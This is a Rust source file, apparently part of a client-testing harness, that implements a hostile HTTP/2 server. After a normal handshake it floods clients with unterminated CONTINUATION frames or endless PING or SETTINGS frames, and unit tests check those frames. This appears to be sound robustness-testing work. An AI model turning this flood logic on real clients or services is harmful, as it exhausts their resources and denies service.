//! A hostile HTTP/2 server ([`H2Flood`]) in raw frames (`frame.rs`): the
//! h2 crate's server acknowledges PINGs itself and always ends a header
//! block, so it cannot be made to flood.
//!
//! The connection behaves until the client's first request: the server's
//! SETTINGS, then an acknowledgement for each SETTINGS and PING the client
//! sends (a client may wait for one before its first request). From that
//! request's HEADERS on, one half of the socket drops everything the client
//! sends (so its acknowledgements never back up into a stalled flood) and
//! the other writes the flood until the client goes away.

use bytes::{Buf, BytesMut};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};

use crate::config::H2Flood;
use crate::ctx::Ctx;
use crate::frame::{self, HEADER_LEN, Head};
use crate::io::Io;
use crate::rewind::Rewind;
use crate::stats::CloseReason;

/// Frames are written in batches of about this many bytes: one syscall
/// each, so the flood is as fast as the client can read it.
const BATCH: usize = 64 * 1024;
/// The largest client frame the handshake reads: the default
/// `SETTINGS_MAX_FRAME_SIZE`, which the server never raises.
const MAX_FRAME: usize = 1 << 14;

/// Serves `flood` on `io`; `buf` holds bytes already read (all or part of
/// the client's preface).
pub(crate) async fn run<S: Io>(io: S, buf: BytesMut, flood: H2Flood, ctx: &Ctx) -> CloseReason {
    let (mut rd, mut wr) = tokio::io::split(Rewind::new(buf.freeze(), io));
    let stream = match ctx.guarded(until_request(&mut rd, &mut wr)).await {
        Err(reason) => return reason,
        Ok(None) => return CloseReason::Peer,
        Ok(Some(stream)) => stream,
    };
    ctx.ledger.stream_opened(ctx.id);
    let drain = async {
        let mut sink = vec![0u8; BATCH];
        while let Ok(1..) = rd.read(&mut sink).await {}
    };
    let write = async {
        let mut batches = Batches::new(flood, stream);
        loop {
            let (bytes, frames) = batches.next();
            if wr.write_all(bytes).await.is_err() {
                return;
            }
            ctx.ledger.flooded(frames);
        }
    };
    let out = ctx
        .guarded(async {
            tokio::select! {
                () = drain => {}
                () = write => ctx.ledger.write_failed(ctx.id),
            }
        })
        .await;
    match out {
        Err(reason) => reason,
        Ok(()) => CloseReason::Peer,
    }
}

/// Plays a proper server until the client's first request: reads the
/// preface and frames, acknowledging SETTINGS and PINGs. Returns the
/// request's stream id, or `None` if the client left first.
async fn until_request<R, W>(rd: &mut R, wr: &mut W) -> Option<u32>
where
    R: AsyncRead + Unpin,
    W: AsyncWrite + Unpin,
{
    let mut out = BytesMut::new();
    frame::settings(&mut out, &[]);
    wr.write_all(&out).await.ok()?;
    let mut buf = BytesMut::with_capacity(HEADER_LEN + MAX_FRAME);
    let mut preface = frame::PREFACE.len();
    loop {
        let skip = preface.min(buf.len());
        buf.advance(skip);
        preface -= skip;
        let head = (preface == 0 && buf.len() >= HEADER_LEN).then(|| {
            let h: [u8; HEADER_LEN] = buf[..HEADER_LEN].try_into().expect("9 bytes");
            Head::parse(&h)
        });
        let Some(head) = head.filter(|h| buf.len() >= HEADER_LEN + h.len) else {
            // A frame larger than the server allows: not worth serving.
            if head.is_some_and(|h| h.len > MAX_FRAME) {
                return None;
            }
            match rd.read_buf(&mut buf).await {
                Ok(1..) => continue,
                _ => return None,
            }
        };
        buf.advance(HEADER_LEN);
        let payload = buf.split_to(head.len);
        out.clear();
        match head.kind {
            frame::HEADERS => return Some(head.stream),
            frame::SETTINGS if head.flags & frame::ACK == 0 => {
                frame::put(&mut out, frame::SETTINGS, frame::ACK, 0, &[]);
            }
            frame::PING if head.flags & frame::ACK == 0 => {
                let opaque = payload[..].try_into().unwrap_or_default();
                frame::ping(&mut out, opaque, true);
            }
            _ => continue,
        }
        wr.write_all(&out).await.ok()?;
    }
}

/// The flood, one batch of frames at a time.
struct Batches {
    flood: H2Flood,
    stream: u32,
    buf: BytesMut,
    /// Frames written so far: the PING payloads count up.
    sent: u64,
}

impl Batches {
    fn new(flood: H2Flood, stream: u32) -> Self {
        Batches {
            flood,
            stream,
            buf: BytesMut::with_capacity(BATCH + 64),
            sent: 0,
        }
    }

    /// The next batch's bytes and how many frames they hold.
    fn next(&mut self) -> (&[u8], u64) {
        self.buf.clear();
        let mut frames = 0;
        if self.sent == 0 && self.flood == H2Flood::Continuation {
            // The response's first fragment: `:status: 200`, no END_HEADERS.
            frame::put(
                &mut self.buf,
                frame::HEADERS,
                0,
                self.stream,
                &[frame::STATUS_200],
            );
            frames += 1;
        }
        let mut field = Vec::new();
        frame::literal(&mut field, b"x-flood", b"a");
        while self.buf.len() < BATCH {
            match self.flood {
                H2Flood::Continuation => {
                    frame::put(&mut self.buf, frame::CONTINUATION, 0, self.stream, &field);
                }
                H2Flood::Ping => {
                    let opaque = (self.sent + frames).to_be_bytes();
                    frame::ping(&mut self.buf, opaque, false);
                }
                H2Flood::Settings => {
                    frame::settings(&mut self.buf, &[(frame::MAX_CONCURRENT_STREAMS, 100)]);
                }
            }
            frames += 1;
        }
        self.sent += frames;
        (&self.buf, frames)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Every frame of every batch, as (type, flags, stream).
    fn frames(flood: H2Flood, batches: usize) -> Vec<(u8, u8, u32)> {
        let mut b = Batches::new(flood, 5);
        let mut out = Vec::new();
        for _ in 0..batches {
            let (mut bytes, n) = b.next();
            let before = out.len();
            while !bytes.is_empty() {
                let h = Head::parse(bytes[..HEADER_LEN].try_into().unwrap());
                out.push((h.kind, h.flags, h.stream));
                bytes = &bytes[HEADER_LEN + h.len..];
            }
            assert_eq!((out.len() - before) as u64, n);
        }
        out
    }

    #[test]
    fn a_continuation_flood_opens_a_header_block_and_never_ends_it() {
        let f = frames(H2Flood::Continuation, 2);
        assert_eq!(f[0], (frame::HEADERS, 0, 5));
        assert!(f[1..].iter().all(|&x| x == (frame::CONTINUATION, 0, 5)));
        assert!(f.len() > 1000);
    }

    #[test]
    fn ping_and_settings_floods_are_connection_frames_asking_for_acks() {
        for (flood, kind) in [
            (H2Flood::Ping, frame::PING),
            (H2Flood::Settings, frame::SETTINGS),
        ] {
            let f = frames(flood, 2);
            assert!(f.iter().all(|&x| x == (kind, 0, 0)), "{flood:?}");
        }
    }
}
